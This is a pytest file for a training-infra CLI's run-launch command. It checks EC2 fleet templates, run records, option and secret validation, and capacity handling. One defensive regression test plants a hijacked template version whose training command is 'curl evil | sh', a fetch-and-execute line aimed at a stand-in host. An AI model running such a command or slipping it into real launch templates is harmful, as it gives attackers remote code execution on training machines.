"""`launch`: a managed run: its own launch template, its record, and attempt 1 from one EC2 Fleet."""

from __future__ import annotations

import base64
import json
import re
from datetime import UTC, datetime, timedelta

import pytest

from tests.cli.conftest import STACK_INSTANCE_TYPES
from training_infra import naming, pricing
from training_infra.cli.launching import template_exports
from training_infra.supervisor.runtime.records import RunStore


def _user_data(stacks, instance_id: str) -> str:
    attribute = stacks.client("ec2").describe_instance_attribute(InstanceId=instance_id, Attribute="userData")
    return base64.b64decode(attribute["UserData"]["Value"]).decode()


def _run_exports(stacks, instance_id: str) -> dict[str, str]:
    """The exports in effect on the box: the run's come after the stack's, before the marker; later ones win."""
    return template_exports(_user_data(stacks, instance_id))


def _template_data(stacks) -> dict:
    return stacks.client("ec2").describe_launch_template_versions(
        LaunchTemplateId=stacks.outputs[naming.OUTPUT_LAUNCH_TEMPLATE_ID], Versions=["$Latest"]
    )["LaunchTemplateVersions"][0]["LaunchTemplateData"]


def _tags(resource) -> dict[str, str]:
    return {t["Key"]: t["Value"] for t in resource.get("Tags", [])}


def _record(stacks, run_id: str):
    return RunStore(stacks.client("dynamodb"), stacks.outputs[naming.OUTPUT_RUN_TABLE]).get(run_id)


def test_launch_makes_a_managed_run_and_starts_attempt_1_with_one_deadline(stacks):
    before = datetime.now(UTC).replace(microsecond=0)
    result = stacks.cli(
        "launch", "--run-id", "launch-spot-1", "--image-tag", "v2", "--command", "python train.py --lr 3e-4",
        "--env", "EPOCHS=3", "--env", "WANDB_MODE=offline", "--max-runtime-hours", "2", "--stall-minutes", "7",
        "--data-access", "mount",
    )  # fmt: skip

    assert result.exit_code == 0, result.output
    [instance] = stacks.run_instances("launch-spot-1")
    tags = _tags(instance)
    assert tags[naming.TAG_MANAGED] == "true"
    assert tags[naming.TAG_ATTEMPT] == "1"
    assert tags[naming.TAG_MAX_RUNTIME_HOURS] == "2"
    assert tags["Name"] == "training-infra-launch-spot-1"
    deadline = datetime.strptime(tags[naming.TAG_DEADLINE], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    assert before + timedelta(hours=2) <= deadline <= datetime.now(UTC) + timedelta(hours=2)
    assert instance["InstanceLifecycle"] == "spot"
    record = _record(stacks, "launch-spot-1")
    assert record.state == "launching" and record.deadline_at == tags[naming.TAG_DEADLINE]
    assert record.attempts[0].instance_id == instance["InstanceId"]
    assert record.spec.instance_types == tuple(STACK_INSTANCE_TYPES), "the stack's instance_types by default"
    # The same agent, with this run's settings after the stack's; the deadline is absolute.
    exports = _run_exports(stacks, instance["InstanceId"])
    assert exports["TI_RUN_ID"] == "launch-spot-1"
    assert exports["TI_IMAGE_TAG"] == "v2"
    assert exports["TI_TRAINING_COMMAND"] == "python train.py --lr 3e-4"
    assert exports["TI_MAX_RUNTIME_SECONDS"] == "7200"
    assert exports["TI_STALL_SECONDS"] == "420" and record.spec.stall_seconds == 420, "agent and backstop"
    assert exports["TI_DEADLINE_AT"] == record.deadline_at
    assert exports["TI_DATA_ACCESS"] == "mount", "data larger than the disk: Mountpoint at /data (issue 29)"
    # Nobody confirmed mount-s3 on the AMI: the launch says, once, that the AMI must provide it.
    assert result.stderr.count("note: data_access=mount: the AMI (the stack's image_id, else ami_parameter)") == 1
    assert exports["TI_EXTRA_ENV"].splitlines() == ["STACK_LEVEL=1", "EPOCHS=3", "WANDB_MODE=offline"]
    assert "launched run launch-spot-1: attempt 1 on " + instance["InstanceId"] in result.stdout
    for verb in ("status", "logs", "fetch", "stop", "connect"):
        assert f"training-infra {verb} launch-spot-1" in result.stdout


def test_the_runs_own_template_copies_the_stacks_without_a_market_and_is_tagged_managed(stacks):
    result = stacks.cli("launch", "--run-id", "launch-template")
    assert result.exit_code == 0 and "mount-s3" not in result.output, "no mount, no Mountpoint note"
    ec2 = stacks.client("ec2")
    [template] = ec2.describe_launch_templates(LaunchTemplateNames=["training-infra-run-launch-template"])[
        "LaunchTemplates"
    ]
    assert _tags(template)[naming.TAG_MANAGED] == "true" and _tags(template)[naming.TAG_RUN_ID] == "launch-template"
    data = ec2.describe_launch_template_versions(LaunchTemplateId=template["LaunchTemplateId"])[
        "LaunchTemplateVersions"
    ][0]["LaunchTemplateData"]
    stack = _template_data(stacks)
    assert "InstanceMarketOptions" not in data and "InstanceType" not in data, "the fleet chooses market and type"
    for key in ("ImageId", "SecurityGroupIds", "InstanceInitiatedShutdownBehavior", "BlockDeviceMappings"):
        assert data[key] == stack[key], key
    assert _record(stacks, "launch-template").spec.launch_template_id == template["LaunchTemplateId"]


def test_instance_types_market_and_restarts_reach_the_run_record(stacks):
    result = stacks.cli(
        "launch", "--run-id", "launch-od", "--instance-types", "g6.xlarge,g4dn.xlarge", "--market", "on-demand",
        "--max-restarts-on-errors", "2",
    )  # fmt: skip

    assert result.exit_code == 0, result.output
    record = _record(stacks, "launch-od")
    assert record.spec.instance_types == ("g6.xlarge", "g4dn.xlarge")
    assert record.spec.market == "on-demand" and record.spec.max_restarts_on_errors == 2
    [instance] = stacks.run_instances("launch-od")
    assert instance.get("InstanceLifecycle") != "spot"
    assert instance["InstanceType"] in ("g6.xlarge", "g4dn.xlarge")
    exports = _run_exports(stacks, instance["InstanceId"])
    assert exports["TI_MARKET"] == "on-demand"
    assert float(exports["TI_HOURLY_PRICE_USD"]) == max(
        pricing.on_demand_price("g6.xlarge"), pricing.on_demand_price("g4dn.xlarge")
    )


def test_a_single_instance_type_is_a_list_of_one(stacks):
    assert (
        stacks.cli("launch", "--run-id", "launch-one-type", "--instance-type", "g6.xlarge", "--on-demand").exit_code
        == 0
    )
    record = _record(stacks, "launch-one-type")
    assert record.spec.instance_types == ("g6.xlarge",) and record.spec.market == "on-demand"


def test_the_run_template_tags_every_attempts_volume_so_the_reaper_and_cost_reports_see_it(stacks):
    """An instant fleet tags only instances; AWS tags the volume from the template (moto does not, so the
    template is what is checked), and the stack template's own tags are kept."""
    result = stacks.cli("launch", "--run-id", "launch-volume")

    assert result.exit_code == 0, result.output
    ec2 = stacks.client("ec2")
    [template] = ec2.describe_launch_templates(LaunchTemplateNames=["training-infra-run-launch-volume"])[
        "LaunchTemplates"
    ]
    data = ec2.describe_launch_template_versions(LaunchTemplateId=template["LaunchTemplateId"])[
        "LaunchTemplateVersions"
    ][0]["LaunchTemplateData"]
    specs = {spec["ResourceType"]: {t["Key"]: t["Value"] for t in spec["Tags"]} for spec in data["TagSpecifications"]}
    for resource in ("instance", "volume"):
        assert specs[resource][naming.TAG_RUN_ID] == "launch-volume"
        assert specs[resource][naming.TAG_MANAGED] == "true"
        assert specs[resource][naming.TAG_DEADLINE] == _record(stacks, "launch-volume").deadline_at
    assert specs["instance"]["project"] == "training-infra", "the stack template's own tags are kept"


def test_launch_generates_a_sortable_run_id_when_none_is_given(stacks):
    before = datetime.now(UTC).strftime("%Y%m%d-%H%M%S")
    result = stacks.cli("launch", "--quiet")

    assert result.exit_code == 0, result.output
    run_id = result.stdout.strip()
    assert re.fullmatch(r"\d{8}-\d{6}-[0-9a-f]{4}", run_id)
    assert run_id[:15] >= before
    assert len(stacks.run_instances(run_id)) == 1


def test_a_run_id_in_use_is_refused_and_nothing_is_launched(stacks):
    assert stacks.cli("launch", "--run-id", "launch-twice").exit_code == 0
    again = stacks.cli("launch", "--run-id", "launch-twice")

    assert again.exit_code == 1
    assert again.stderr == (
        "error: run launch-twice already exists: choose another --run-id "
        "(`training-infra status launch-twice` shows it)\n"
    )
    assert len(stacks.run_instances("launch-twice")) == 1


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (("--run-id", "My Run"), "option '--run-id': got 'My Run'; allowed: empty or lowercase letters"),
        (("--run-id", "a" * 64), "option '--run-id'"),
        (("--instance-type", "g5.huge"), "option '--instance-type': got 'g5.huge'; allowed: an EC2 instance type"),
        (
            ("--instance-type", "x1e.xlarge"),
            "option '--instance-type': got 'x1e.xlarge'; allowed: a type in one of the families",
        ),
        (
            ("--instance-types", "g5.xlarge,x9.large"),
            "option '--instance-types': got 'g5.xlarge,x9.large'; allowed: a type in one of the families",
        ),
        (("--instance-types", "g5.xlarge,g5.xlarge"), "allowed: each type once (g5.xlarge repeated)"),
        (("--instance-types", ""), "option '--instance-types': got ''; allowed: one or more instance types"),
        (("--instance-types", "g5.xlarge,g5g.xlarge"), "allowed: types of one CPU architecture (g5g.xlarge arm64"),
        (
            ("--instance-type", "g5.xlarge", "--instance-types", "g6.xlarge"),
            "options '--instance-type' and '--instance-types': give one",
        ),
        (("--market", "cheap"), "option '--market': got 'cheap'; allowed: spot, on-demand, spot-then-on-demand"),
        (("--market", "spot", "--on-demand"), "options '--market' and '--on-demand': got both; allowed: one of them"),
        (("--spot", "--on-demand"), "options '--spot' and '--on-demand': got both; allowed: one of them"),
        (
            ("--max-restarts-on-errors", "-1"),
            "option '--max-restarts-on-errors': got '-1'; allowed: a whole number from 0 to 100",
        ),
        (("--max-restarts-on-errors", "two"), "option '--max-restarts-on-errors': got 'two'"),
        (("--max-runtime-hours", "0"), "option '--max-runtime-hours': got '0'; allowed: a number greater than 0"),
        (
            ("--max-runtime-hours", "abc"),
            "option '--max-runtime-hours': got 'abc'; allowed: a number greater than 0 up to 168",
        ),
        (("--stall-minutes", "-1"), "option '--stall-minutes': got '-1'; allowed: a whole number from 0 to 1440"),
        (("--stall-minutes", "ten"), "option '--stall-minutes': got 'ten'; allowed: a whole number from 0 to 1440"),
        (("--image-tag", "bad tag"), "option '--image-tag': got 'bad tag'"),
        (("--data-access", "copy"), "option '--data-access': got 'copy'; allowed: sync or mount"),
        (("--env", "NOEQUALS"), "option '--env': got 'NOEQUALS'; allowed: KEY=VALUE"),
        (("--env", "1BAD=x"), "option '--env': got '1BAD=x'"),
        (("--subnet-id", "vpc-123"), "option '--subnet-id': got 'vpc-123'"),
    ],
)
def test_launch_rejects_bad_options_in_one_line_before_calling_aws(stacks, args, fragment):
    assert fragment in stacks.usage_error("launch", *args)


def test_no_capacity_in_any_pool_leaves_the_run_waiting_for_the_supervisor(stacks, ec2_faults):
    result = stacks.cli("launch", "--run-id", "cap-everywhere", env={"AWS_ENDPOINT_URL_EC2": ec2_faults.url})

    assert result.exit_code == 0, result.output
    assert (
        "run cap-everywhere is waiting for capacity (no capacity: InsufficientInstanceCapacity in 4 pool(s))"
        in result.stdout
    )
    assert "the supervisor retries every minute" in result.stdout
    [request] = ec2_faults.fleet_calls
    assert "Type=instant" in request and "price-capacity-optimized" in request
    assert len(set(re.findall(r"Overrides\.\d+\.SubnetId=(subnet-[0-9a-f]+)", request))) == 2, (
        "every zone of the stack's network"
    )
    assert not stacks.run_instances("cap-everywhere")
    record = _record(stacks, "cap-everywhere")
    assert record.active and record.attempts[0].end_reason == "capacity"


def test_status_v_of_a_waiting_run_names_each_pool_and_ec2s_answer(stacks, ec2_faults):
    ec2_faults.error_code = "SpotMaxPriceTooLow"
    assert stacks.cli("launch", "--run-id", "cap-why", env={"AWS_ENDPOINT_URL_EC2": ec2_faults.url}).exit_code == 0

    lines = stacks.cli("status", "cap-why", "-v").stdout.splitlines()
    start = lines.index("why it waits:")
    assert lines[start + 1].startswith("  1 try without an instance; last 20")
    assert lines[start + 2] == "  EC2's last answer per pool:"
    pools = [line for line in lines[start + 3 :] if line.startswith("    ")]
    assert len(pools) == 4 and all(
        line.endswith("(spot): price over the cap: the spot price is above --max-price [SpotMaxPriceTooLow]")
        for line in pools
    ), pools
    assert lines[-1].startswith("  next try: 20") and "until the deadline 20" in lines[-1]
    assert "why it waits:" not in stacks.cli("status", "cap-why").stdout, "only with -v"
    [row] = json.loads(stacks.cli("status", "cap-why", "-v", "--json").stdout)
    assert {p["code"] for p in row["waiting"]["pools"]} == {"SpotMaxPriceTooLow"}


def test_spot_then_on_demand_asks_for_on_demand_when_no_zone_has_spot(stacks, ec2_faults):
    ec2_faults.error_code = "InsufficientInstanceCapacity"
    result = stacks.cli(
        "launch",
        "--run-id",
        "cap-fallback",
        "--market",
        "spot-then-on-demand",
        env={"AWS_ENDPOINT_URL_EC2": ec2_faults.url},
    )

    assert result.exit_code == 0, result.output
    markets = [re.search(r"DefaultTargetCapacityType=([a-z-]+)", call)[1] for call in ec2_faults.fleet_calls]
    assert markets == ["spot", "on-demand"], "the proxy refuses both: the supervisor asked on-demand after spot"


def test_launch_into_an_explicit_subnet(stacks):
    subnet = stacks.client("ec2").describe_subnets(
        Filters=[{"Name": "availability-zone", "Values": [f"{stacks.region}b"]}]
    )["Subnets"]
    subnet_id = next(s["SubnetId"] for s in subnet if s["CidrBlock"].startswith("10.20."))
    result = stacks.cli("launch", "--run-id", "launch-subnet", "--subnet-id", subnet_id)

    assert result.exit_code == 0, result.output
    [instance] = stacks.run_instances("launch-subnet")
    assert instance["SubnetId"] == subnet_id
    assert _record(stacks, "launch-subnet").spec.subnet_ids == (subnet_id,)


def test_launch_places_the_run_in_the_subnets_the_compute_stack_publishes(deployed):
    published = deployed("eu-north-1", published_zones="b")
    zone_b_subnet = published.outputs[naming.OUTPUT_SUBNET_IDS]

    result = published.cli("launch", "--run-id", "published-subnet")

    assert result.exit_code == 0, result.output
    [instance] = published.run_instances("published-subnet")
    assert instance["SubnetId"] == zone_b_subnet
    assert instance["Placement"]["AvailabilityZone"] == "eu-north-1b"
    assert published.cli("outputs", "subnet_ids").stdout == zone_b_subnet + "\n"


def test_an_on_demand_stack_launches_on_demand_unless_told_spot(deployed):
    on_demand_stacks = deployed("ca-central-1", use_spot=False)

    spot = on_demand_stacks.cli("launch", "--run-id", "od-template-spot", "--spot")
    default = on_demand_stacks.cli("launch", "--run-id", "od-template-default")

    assert spot.exit_code == 0 and default.exit_code == 0, spot.output + default.output
    [spot_instance] = on_demand_stacks.run_instances("od-template-spot")
    [default_instance] = on_demand_stacks.run_instances("od-template-default")
    assert spot_instance["InstanceLifecycle"] == "spot"
    assert _run_exports(on_demand_stacks, spot_instance["InstanceId"])["TI_MARKET"] == "spot"
    assert default_instance.get("InstanceLifecycle") != "spot", "the stack's market unless told otherwise"


def test_a_version_someone_added_to_the_stack_template_is_never_launched_only_the_default_is(deployed):
    """Issue 23: anyone with ec2:CreateLaunchTemplateVersion chose the AMI and user data of every later run,
    because `launch` copied `$Latest`. The supervisor copies the default version: what the deploy made."""
    deployment = deployed("ca-central-1")
    ec2 = deployment.client("ec2")
    template_id = deployment.outputs[naming.OUTPUT_LAUNCH_TEMPLATE_ID]
    [first] = ec2.describe_launch_template_versions(LaunchTemplateId=template_id, Versions=["$Default"])[
        "LaunchTemplateVersions"
    ]
    hijacked = (
        base64.b64decode(first["LaunchTemplateData"]["UserData"])
        .decode()
        .replace("export TI_TRAINING_COMMAND='python train.py'", "export TI_TRAINING_COMMAND='curl evil | sh'")
    )
    assert "evil" in hijacked
    ec2.create_launch_template_version(
        LaunchTemplateId=template_id,
        LaunchTemplateData={
            **first["LaunchTemplateData"],
            "ImageId": "ami-0badbadbadbadbad0",
            "UserData": base64.b64encode(hijacked.encode()).decode(),
        },
    )

    result = deployment.cli("launch", "--run-id", "launch-default-version")

    assert result.exit_code == 0, result.output
    [instance] = deployment.run_instances("launch-default-version")
    assert _run_exports(deployment, instance["InstanceId"])["TI_TRAINING_COMMAND"] == "python train.py"
    assert instance["ImageId"] == first["LaunchTemplateData"]["ImageId"]


SECRET_ARN = "arn:aws:secretsmanager:us-east-1:123456789012:secret:training-infra/wandb-AbCdEf"


def test_secrets_reach_the_agent_as_references_only_in_ti_secrets(stacks):
    result = stacks.cli(
        "launch", "--run-id", "with-secrets", "--secret", "HF_TOKEN=ssm:/training-infra/hf/token",
        "--secret", f"WANDB_API_KEY={SECRET_ARN}",
    )  # fmt: skip

    assert result.exit_code == 0, result.output
    [instance] = stacks.run_instances("with-secrets")
    exports = _run_exports(stacks, instance["InstanceId"])
    assert exports["TI_SECRETS"].splitlines() == [
        "HF_TOKEN=ssm:/training-infra/hf/token",
        f"WANDB_API_KEY={SECRET_ARN}",
    ]
    assert "HF_TOKEN" not in exports.get("TI_EXTRA_ENV", ""), "secrets are not plain environment"


@pytest.mark.parametrize(
    ("secret", "fragment"),
    [
        ("HF_TOKEN", "option '--secret': got 'HF_TOKEN'; allowed: NAME=ssm:/training-infra/PATH"),
        ("HF_TOKEN=hf_abc123", "option '--secret': got 'HF_TOKEN=hf_abc123'"),
        ("HF_TOKEN=ssm:/other/team/token", "got 'HF_TOKEN=ssm:/other/team/token'; allowed: NAME=ssm:/training-infra/"),
        ("1BAD=ssm:/training-infra/x", "option '--secret': got '1BAD=ssm:/training-infra/x'"),
        ("TOKEN=arn:aws:s3:::bucket/key", "option '--secret': got 'TOKEN=arn:aws:s3:::bucket/key'"),
        ("AWS_SECRET_ACCESS_KEY=ssm:/training-infra/k", "got name 'AWS_SECRET_ACCESS_KEY'; allowed: any name but"),
        ("RUN_ID=ssm:/training-infra/k", "got name 'RUN_ID'"),
    ],
)
def test_launch_rejects_a_bad_secret_in_one_line_before_calling_aws(stacks, secret, fragment):
    assert fragment in stacks.usage_error("launch", "--secret", secret)


def test_launch_reports_every_bad_secret_one_line_each_and_launches_nothing(stacks):
    result = stacks.cli(
        "launch", "--run-id", "bad-secrets", "--secret", "A=plain", "--secret", "B=ssm:/training-infra/ok",
        "--secret", "B=ssm:/training-infra/again", "--env", "C=1", "--secret", "C=ssm:/training-infra/c",
        env={"AWS_ENDPOINT_URL": "http://127.0.0.1:9"},
    )  # fmt: skip

    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 3 and all(line.startswith("error: option '--secret': got ") for line in lines), lines
    assert "'A=plain'" in lines[0] and "name 'B' twice" in lines[1] and "name 'C' twice (or also in --env)" in lines[2]


def test_launch_refuses_more_secrets_than_one_sts_session_policy_can_name_before_calling_aws(stacks):
    partial = "arn:aws:secretsmanager:us-east-1:123456789012:secret:training-infra/team/api-token-number"
    argv = [arg for i in range(12) for arg in ("--secret", f"S{i}={partial}{i}")]

    message = stacks.usage_error("launch", *argv)

    assert message.startswith("error: option '--secret': got 12 references whose reader policy is ")
    assert message.endswith("allowed: at most 2048 (STS's limit for a session policy): give fewer, or full Secrets "
                            "Manager ARNs\n")  # fmt: skip
    fits = stacks.cli("launch", *argv[:8], env={"AWS_ENDPOINT_URL": "http://127.0.0.1:9"})
    assert fits.exit_code == 1, "four such references pass the check and go on to AWS (unreachable here)"


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (("--max-runtime-hours", "0.0001"), "allowed: from 0.25 (boot 10 min + one checkpoint interval 300s)"),
        (("--max-runtime-hours", "13"), "up to the stack's max_runtime_hours 12"),
        (("--instance-types", "p5.48xlarge"), "allowed: the stack's allowed_instance_types g4dn.*"),
    ],
)
def test_a_launch_past_the_stacks_limits_is_refused_in_one_line_and_starts_nothing(stacks, args, words):
    run_id = f"limits-{len(args[1])}-{args[0][2:6]}"
    result = stacks.cli("launch", "--run-id", run_id, *args)

    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1 and words in result.stderr
    assert stacks.run_instances(run_id) == []
    assert (
        stacks.client("ec2").describe_launch_templates(
            Filters=[{"Name": "launch-template-name", "Values": [f"training-infra-run-{run_id}"]}]
        )["LaunchTemplates"]
        == []
    )


@pytest.mark.parametrize(
    ("code", "message", "words", "absent"),
    [
        ("TooManyRequestsException", "Rate Exceeded.", "the supervisor is busy (TooManyRequestsException: Rate "
         "Exceeded.)", "TrainingUserPolicy"),
        ("ResourceNotFoundException", "Function not found: x", "AWS said ResourceNotFoundException: Function not "
         "found: x", "TrainingUserPolicy"),
        ("AccessDeniedException", "not authorized", "your credentials need the stack's TrainingUserPolicy", "\n"),
    ],
)  # fmt: skip
def test_a_refused_invoke_says_what_aws_said_and_blames_permissions_only_when_denied(code, message, words, absent):
    from training_infra.cli.launching import invoke_error

    line = invoke_error({"Code": code, "Message": message})

    assert words in line and absent not in line
